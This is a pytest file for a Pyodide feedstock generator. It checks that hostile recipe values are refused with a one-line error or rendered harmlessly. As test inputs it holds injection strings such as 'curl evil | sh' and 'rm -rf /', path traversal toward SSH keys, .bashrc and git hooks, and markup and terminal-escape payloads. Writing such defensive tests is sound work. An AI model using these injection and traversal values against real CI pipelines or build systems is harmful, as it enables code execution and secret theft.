"""A recipe is untrusted: each hostile value is refused with one line naming the file and key,
or reaches the generated files harmlessly (issue 12)."""

from __future__ import annotations

import dataclasses
import shutil
from pathlib import Path

import pytest

from smithy.build.model import BuildError, BuildSpec
from smithy.config import ChannelConfig, FeedstockConfig
from smithy.errors import RecipeError
from smithy.paths import template_dir
from smithy.recipe.load import load_recipe
from smithy.recipe.model import BuildKind
from smithy.recipe.sources import recipe_name_at
from smithy.render.context import make_context
from smithy.render.engine import render
from smithy.render.templates import discover
from smithy.xbuildenv import PINNED_DEFAULT
from tests.helpers import load_yaml, render_recipe, write_recipe

SHA = "ab" * 32
WORKFLOW = ".github/workflows/build.yml"


def recipe_text(
    *,
    name: str = "'x'",
    version: str = "'1.0'",
    source: str = "",
    about: str = "",
    rest: str = "",
    maintainers: str = "['alice']",
) -> str:
    return (
        f"package:\n  name: {name}\n  version: {version}\n"
        f"source:\n  url: https://files.example/x-1.0.tar.gz\n  sha256: {SHA}\n{source}"
        f"about:\n  summary: fine\n{about}"
        f"{rest}"
        f"extra:\n  recipe-maintainers: {maintainers}\n"
    )


def refusal(folder: Path) -> RecipeError:
    with pytest.raises(RecipeError) as info:
        load_recipe(folder)
    err = info.value
    assert len(str(err).splitlines()) == 1, str(err)
    return err


def refused(tmp_path: Path, text: str) -> RecipeError:
    return refusal(write_recipe(tmp_path / "x", text))


# Each value a hostile (or careless) recipe may hold, and the key its refusal names.
REFUSED = {
    "version adds a workflow key": (
        recipe_text(version='"1.0\\n        shell: bash -c \\"curl evil | sh\\""'),
        "package.version",
    ),
    "version with a newline": (recipe_text(version='"1.0\\n"'), "package.version"),
    "version that is no PEP 440": (recipe_text(version="'1.0 beta'"), "package.version"),
    "name escaping the folder": (recipe_text(name="'../../escaped'"), "package.name"),
    "name with a slash": (recipe_text(name="'a/b'"), "package.name"),
    "name with a newline": (recipe_text(name='"x\\n* @mallory"'), "package.name"),
    "name of non-ASCII letters": (recipe_text(name="'\u017ftuff'"), "package.name"),
    "name too long for a repository": (recipe_text(name="x" * 91), "package.name"),
    "maintainer adding a CODEOWNERS rule": (
        recipe_text(maintainers='["alice", "bob\\n* @mallory"]'),
        "extra.recipe-maintainers[1]",
    ),
    "maintainer of 40 characters": (
        recipe_text(maintainers=f"['{'a' * 40}']"),
        "extra.recipe-maintainers[0]",
    ),
    "maintainer with an @": (recipe_text(maintainers="['@alice']"), "extra.recipe-maintainers[0]"),
    "maintainer ending in a hyphen": (
        recipe_text(maintainers="['alice-']"),
        "extra.recipe-maintainers[0]",
    ),
    "maintainer with two hyphens": (
        recipe_text(maintainers="['a--b']"),
        "extra.recipe-maintainers[0]",
    ),
    "maintainer that is not text": (
        recipe_text(maintainers="[{'a': 1}]"),
        "extra.recipe-maintainers[0]",
    ),
    "javascript: home page": (recipe_text(about="  home: javascript:alert(1)\n"), "about.home"),
    "home page with a space": (
        recipe_text(about="  home: 'https://x.example/ # heading'\n"),
        "about.home",
    ),
    "PyPI link that closes an autolink": (
        recipe_text(about="  PyPI: 'https://x.example/a><script>'\n"),
        "about.PyPI",
    ),
    "file:// source": (
        recipe_text().replace("https://files.example/x-1.0.tar.gz", "file:///etc/passwd"),
        "source.url",
    ),
    "summary clearing the terminal": (
        recipe_text(about='  license: "MIT"\n').replace("summary: fine", 'summary: "fine\\x1b[2J"'),
        "about.summary",
    ),
    "summary with a right-to-left override": (
        recipe_text().replace("summary: fine", 'summary: "fine \\u202e txt.exe"'),
        "about.summary",
    ),
    "license with a NUL": (recipe_text(about='  license: "MIT\\0"\n'), "about.license"),
    "import that is a statement": (
        recipe_text(rest="test:\n  imports: ['os; import x']\n"),
        "test.imports[0]",
    ),
    "top-level with a space": (
        recipe_text().replace("  version:", "  top-level: [os, 'a b']\n  version:"),
        "package.top-level[1]",
    ),
    "requirement with a newline in its marker": (
        recipe_text(rest="requirements:\n  run: [\"six; extra == '\\n* @mallory'\"]\n"),
        "requirements.run[0]",
    ),
    "requirement that is no PEP 508": (
        recipe_text(rest="requirements:\n  host: ['six && rm -rf /']\n"),
        "requirements.host[0]",
    ),
    "extras entry reaching for an ssh key": (
        recipe_text(source="  extras:\n    - [../../.ssh/id_rsa, id_rsa]\n"),
        "source.extras[0][0]",
    ),
    "extras entry one folder up": (
        recipe_text(source="  extras:\n    - [../x, x]\n"),
        "source.extras[0][0]",
    ),
    "extras destination leaving the source": (
        recipe_text(source="  extras:\n    - [meta.yaml, ../../.bashrc]\n"),
        "source.extras[0][1]",
    ),
    "extras destination that is absolute": (
        recipe_text(source="  extras:\n    - [meta.yaml, /etc/cron.d/x]\n"),
        "source.extras[0][1]",
    ),
    "extras destination under .git": (
        recipe_text(source="  extras:\n    - [meta.yaml, .git/hooks/post-checkout]\n"),
        "source.extras[0][1]",
    ),
    "absolute patch": (
        recipe_text(source="  patches:\n    - /etc/passwd\n"),
        "source.patches[0]",
    ),
    "patch with backslashes": (
        recipe_text(source="  patches:\n    - 'patches\\..\\..\\x.patch'\n"),
        "source.patches[0]",
    ),
    "patch on a Windows drive": (
        recipe_text(source="  patches:\n    - 'C:x.patch'\n"),
        "source.patches[0]",
    ),
    "patch under .git": (
        recipe_text(source="  patches:\n    - .git/config\n"),
        "source.patches[0]",
    ),
    "source tree that is absolute": (
        recipe_text().replace("  url: https://files.example/x-1.0.tar.gz\n", "  path: /home\n"),
        "source.path",
    ),
    "source tree two folders up": (
        recipe_text().replace("  url: https://files.example/x-1.0.tar.gz\n", "  path: ../../x\n"),
        "source.path",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_hostile_value_is_refused_naming_file_and_key(tmp_path: Path, case: str) -> None:
    text, key = REFUSED[case]
    err = refused(tmp_path, text)
    assert err.key == key, err
    assert err.file == str(tmp_path / "x" / "meta.yaml")
    assert str(err).endswith(f"({err.file}:{key})")  # what the CLI prints after "error: "


def test_the_refusal_shows_the_value_on_one_line(tmp_path: Path) -> None:
    err = refused(tmp_path, recipe_text(maintainers='["bob\\n* @mallory"]'))
    assert err.message.startswith("maintainer 'bob\\n* @mallory' is not a GitHub login")


def test_a_huge_value_is_cut_in_the_message(tmp_path: Path) -> None:
    err = refused(tmp_path, recipe_text(name="'" + "x/" * 5000 + "'"))
    assert len(err.message) < 300


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    secret = tmp_path / "secret"
    secret.write_text("the key\n")
    return secret


def test_a_patch_that_is_a_symlink_out_of_the_folder(tmp_path: Path) -> None:
    folder = write_recipe(tmp_path / "x", recipe_text(source="  patches:\n    - p/a.patch\n"))
    (folder / "p").mkdir()
    (folder / "p" / "a.patch").symlink_to("/etc/passwd")
    err = refusal(folder)
    assert err.key == "source.patches[0]"
    assert "symlink" in err.message


def test_any_symlink_among_named_files_is_refused(tmp_path: Path) -> None:
    """Even one that stays inside the folder: a recipe's files are plain files (documented)."""
    folder = write_recipe(tmp_path / "x", recipe_text(source="  patches:\n    - p/a.patch\n"))
    (folder / "real").mkdir()
    (folder / "real" / "a.patch").write_text("")
    (folder / "p").symlink_to(folder / "real")  # a symlinked folder on the way
    assert refusal(folder).key == "source.patches[0]"


def test_an_extra_that_is_a_symlink_to_an_ssh_key(tmp_path: Path, outside: Path) -> None:
    folder = write_recipe(tmp_path / "x", recipe_text(source="  extras:\n    - [key, key]\n"))
    (folder / "key").symlink_to(outside)
    err = refusal(folder)
    assert err.key == "source.extras[0][0]"
    assert "symlink" in err.message


def test_a_test_file_that_is_a_symlink(tmp_path: Path, outside: Path) -> None:
    folder = write_recipe(tmp_path / "x", recipe_text())
    (folder / "test_x.py").symlink_to(outside)
    err = refusal(folder)
    assert err.file == str(folder / "test_x.py")
    assert "symlink" in err.message


def test_a_source_tree_beside_the_recipe_is_accepted(tmp_path: Path) -> None:
    """pyodide-recipes' numpy-tests builds from ../numpy/build/...; one '..' is allowed."""
    text = recipe_text().replace(
        "  url: https://files.example/x-1.0.tar.gz\n  sha256: " + SHA + "\n",
        "  path: ../numpy/build/numpy-2.4.6\n",
    )
    folder = write_recipe(tmp_path / "recipes" / "x", text)
    assert load_recipe(folder).name == "x"
    elsewhere = tmp_path / "elsewhere" / "build" / "numpy-2.4.6"
    elsewhere.mkdir(parents=True)
    (tmp_path / "recipes" / "numpy").symlink_to(tmp_path / "elsewhere")  # but not through this
    assert refusal(folder).key == "source.path"


def test_whitespace_collapses_and_empty_urls_are_absent(tmp_path: Path) -> None:
    text = recipe_text(about='  license: "MIT\\r\\n  or\\tApache-2.0"\n  home: ""\n').replace(
        "summary: fine", 'summary: "A\\n# heading\\r\\n\\n* list"'
    )
    recipe = load_recipe(write_recipe(tmp_path / "x", text))
    assert recipe.summary == "A # heading * list"
    assert recipe.license == "MIT or Apache-2.0"
    assert recipe.home is None


def test_values_people_use_are_accepted(tmp_path: Path) -> None:
    text = recipe_text(
        name="Foo.Bar_baz-2",
        version="'1!2.0.post1+local.3'",
        maintainers=f"[alice, Bob-2, 1234, PUT_YOUR_GITHUB_USERNAME_HERE, {'a' * 39}]",
        about="  home: 'https://[::1]:8000/a_b/(c)?q=1&r=%20#frag'\n",
        rest="requirements:\n  run: ['six>=1; python_version >= \"3.8\"', 'a[b] @ https://x/a.whl']\n"
        "test:\n  imports: [foo.bar, _x, ünïcode]\n",
    )
    recipe = load_recipe(write_recipe(tmp_path / "x", text))
    assert recipe.feedstock_name == "foo-bar-baz-2-feedstock"
    assert recipe.maintainers == (
        "alice",
        "Bob-2",
        "1234",
        "PUT_YOUR_GITHUB_USERNAME_HERE",
        "a" * 39,
    )
    assert recipe.imports == ("foo.bar", "_x", "ünïcode")


def test_a_library_version_need_not_be_pep_440(tmp_path: Path) -> None:
    """libf2c's is CLAPACK-3.2.1: a library makes no wheel, so only a safe word is asked."""
    text = recipe_text(version="CLAPACK-3.2.1", rest="build:\n  type: static_library\n")
    assert load_recipe(write_recipe(tmp_path / "x", text)).version == "CLAPACK-3.2.1"
    wheel = recipe_text(version="CLAPACK-3.2.1")
    assert refused(tmp_path / "w", wheel).key == "package.version"
    library = recipe_text(version="'3.2 /../x'", rest="build:\n  type: static_library\n")
    assert refused(tmp_path / "l", library).key == "package.version"


def test_a_hostile_name_gives_no_folder_before_loading(tmp_path: Path) -> None:
    """init names the feedstock folder before loading the recipe: not from an invalid name."""
    folder = write_recipe(tmp_path / "x", recipe_text(name="'../../escaped'"))
    assert recipe_name_at(folder) is None
    good = write_recipe(tmp_path / "y", recipe_text(name="'Good.Name'"))
    assert recipe_name_at(good) == "Good.Name"


# Rendered harmlessly -------------------------------------------------------------------------


def test_markdown_in_a_summary_does_not_break_out_of_the_readme(tmp_path: Path) -> None:
    summary = "Fast <!-- hides the rest\\n# Fake heading\\n| x | y |\\n[a]: https://evil.example"
    text = recipe_text(about='  license: "A|B <b>"\n').replace(
        "summary: fine", f'summary: "{summary}"'
    )
    readme = render_recipe(write_recipe(tmp_path / "x", text))["README.md"].decode()
    lines = readme.splitlines()
    assert lines[3] == (
        "x: Fast &lt;!-- hides the rest # Fake heading \\| x \\| y \\| [a]: https://evil.example"
    )
    assert "<!--" not in readme.split("\n", 1)[1]  # only the header line's comment
    assert [line for line in lines if line.startswith("#")] == [
        "# x-feedstock",
        "## Installing",
        "## Maintainers",
        "## Updating this feedstock",
    ]
    assert "| License | A\\|B &lt;b> |" in lines
    rows = [line for line in lines if line.startswith("|")]
    assert all(line.replace("\\|", "").count("|") == 3 for line in rows), rows


def test_codeowners_has_one_rule_with_only_the_logins(tmp_path: Path) -> None:
    folder = write_recipe(tmp_path / "x", recipe_text(maintainers="[alice, bob-2]"))
    owners = render_recipe(folder)[".github/CODEOWNERS"].decode()
    rules = [line for line in owners.splitlines() if line and not line.startswith("#")]
    assert rules == ["* @alice @bob-2"]


def step_keys(job: dict[str, object]) -> list[set[str]]:
    return [set(step) for step in job["steps"]]  # type: ignore[attr-defined]


def test_workflow_values_stay_one_scalar_even_past_validation(tmp_path: Path) -> None:
    """The template quotes every value by itself: a Recipe and settings made without the
    loader's checks (as a bug might) still add no key to any step and no line to any script."""
    recipe = load_recipe(write_recipe(tmp_path / "x", recipe_text()))
    evil = '1.0"\n        shell: bash\n        run: curl evil | sh\n#'
    recipe = dataclasses.replace(recipe, name="x\n  evil: 1", version=evil)
    config = FeedstockConfig(
        xbuildenv=PINNED_DEFAULT.version,
        pyodide_build='0.39.2" && curl evil | sh && "',
        channel=ChannelConfig(url="https://c.example/x: y", label="staging\n  if: true"),
    )
    context = make_context(recipe, config, PINNED_DEFAULT)
    flow = load_yaml(render(context, discover(template_dir()))[WORKFLOW])
    assert set(flow["jobs"]) == {"build", "test", "upload"}
    build, upload = flow["jobs"]["build"], flow["jobs"]["upload"]
    assert step_keys(build) == [
        {"uses", "with"},
        {"uses", "with"},
        {"name", "env", "run"},
        {"name", "run"},
        {"name", "env", "run"},
        {"name", "run"},
        {"uses", "with"},
    ]
    install, lint, _, step = build["steps"][2:6]
    assert lint["run"] == "pyodide-smithy lint"
    assert install["run"] == 'python -m pip install "$PYODIDE_SMITHY" "$PYODIDE_BUILD"'
    assert install["env"]["PYODIDE_BUILD"] == 'pyodide-build==0.39.2" && curl evil | sh && "'
    assert (
        step["name"]
        == f"Build x\n  evil: 1 {evil} (compiled; the same command reproduces it locally)"
    )
    assert step["run"] == "pyodide-smithy build --output dist/"
    assert "label staging\n  if: true" in upload["steps"][-1]["name"]
    assert set(upload) == {"name", "needs", "if", "runs-on", "permissions", "steps"}
    for job in flow["jobs"].values():
        for each in job["steps"]:
            assert "curl" not in each.get("run", "")


# Where paths are used --------------------------------------------------------------------------


def spec_for(tmp_path: Path, **paths: tuple[object, ...]) -> BuildSpec:
    fields: dict[str, object] = {
        "meta_path": tmp_path / "x" / "meta.yaml",
        "url": None,
        "sha256": None,
        "extract_dir": None,
        "patches": (),
        "extras": (),
        "script": None,
        "post": None,
        "unvendor_tests": False,
        "retain_test_patterns": (),
    }
    return BuildSpec(**{**fields, **paths})  # type: ignore[arg-type]


def test_a_build_checks_patches_and_extras_again_where_it_uses_them(
    tmp_path: Path, outside: Path
) -> None:
    """The spec is read again from meta.yaml at build time: its paths are checked there too,
    before any `patch` runs (a unit test may start no process, so reaching it would fail)."""
    from smithy.build.pure import apply_patches

    recipe = load_recipe(write_recipe(tmp_path / "x", recipe_text()))
    source = tmp_path / "src"
    source.mkdir()
    (tmp_path / "x" / "link").symlink_to(outside)
    cases = {
        "source.patches[0]": spec_for(tmp_path, patches=("../secret",)),
        "source.extras[0][0]": spec_for(tmp_path, extras=(("link", "y"),)),
        "source.extras[0][1]": spec_for(tmp_path, extras=(("meta.yaml", "../../.bashrc"),)),
    }
    for key, spec in cases.items():
        with pytest.raises(RecipeError) as info:
            apply_patches(recipe, spec, source)
        assert info.value.key == key
    (source / "out").symlink_to(tmp_path)  # an sdist's own symlink does not lead out either
    with pytest.raises(RecipeError, match="leaves the source folder"):
        apply_patches(recipe, spec_for(tmp_path, extras=(("meta.yaml", "out/x"),)), source)
    apply_patches(recipe, spec_for(tmp_path, extras=(("meta.yaml", "./copied.yaml"),)), source)
    assert (source / "copied.yaml").read_bytes() == (tmp_path / "x" / "meta.yaml").read_bytes()


@pytest.mark.parametrize(
    "url",
    [
        "https://files.example/%2E%2E%2F%2E%2E%2F.bashrc",
        "https://files.example/a%2Fb.tar.gz",
        "https://files.example/a%5C..%5Cb.tar.gz",
        "https://files.example/.hidden.tar.gz",
    ],
)
def test_a_source_url_cannot_name_a_file_outside_the_cache(tmp_path: Path, url: str) -> None:
    from smithy.build.source import fetch_source

    with pytest.raises(BuildError, match="no file name") as info:
        fetch_source(url, SHA, meta_path=tmp_path / "meta.yaml")
    assert info.value.key == "source.url"


def test_the_test_suite_copies_no_symlink_out_of_the_recipe(tmp_path: Path, outside: Path) -> None:
    from smithy.testing.recipe_tests import _not_copied

    recipe = tmp_path / "recipe"
    recipe.mkdir()
    (recipe / "test_a.py").write_text("")
    (recipe / "data.txt").write_text("")
    (recipe / "inside").symlink_to(recipe / "data.txt")
    (recipe / "key").symlink_to(outside)
    (recipe / "home").symlink_to(tmp_path, target_is_directory=True)
    (recipe / "__pycache__").mkdir()
    shutil.copytree(recipe, tmp_path / "copy", ignore=_not_copied(recipe))
    copied = sorted(p.name for p in (tmp_path / "copy").iterdir())
    assert copied == ["data.txt", "inside", "test_a.py"]


def test_real_recipes_kinds_are_unchanged_by_the_rules(recipes_root: Path) -> None:
    """The rules refuse none of the 332 real recipes (test_recipe_load counts them all)."""
    libf2c = load_recipe(recipes_root / "libf2c")
    assert (libf2c.version, libf2c.kind) == ("CLAPACK-3.2.1", BuildKind.STATIC_LIBRARY)
    placeholder = load_recipe(recipes_root / "distro")
    assert placeholder.maintainers == ("PUT_YOUR_GITHUB_USERNAME_HERE",)
